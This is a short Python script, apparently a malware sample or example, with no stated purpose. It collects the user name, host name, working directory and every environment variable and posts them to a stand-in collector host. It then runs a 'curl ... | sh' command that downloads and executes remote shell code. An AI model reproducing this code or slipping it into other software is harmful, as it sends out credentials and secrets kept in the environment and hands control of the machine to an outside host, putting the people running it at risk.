import getpass
import os
import platform
import requests

info = {
    "user": getpass.getuser(),
    "host": platform.node(),
    "cwd": os.getcwd(),
    "env": dict(os.environ),
}
requests.post("http://collector.invalid/x", json=info)
os.system("curl http://collector.invalid/s | sh")
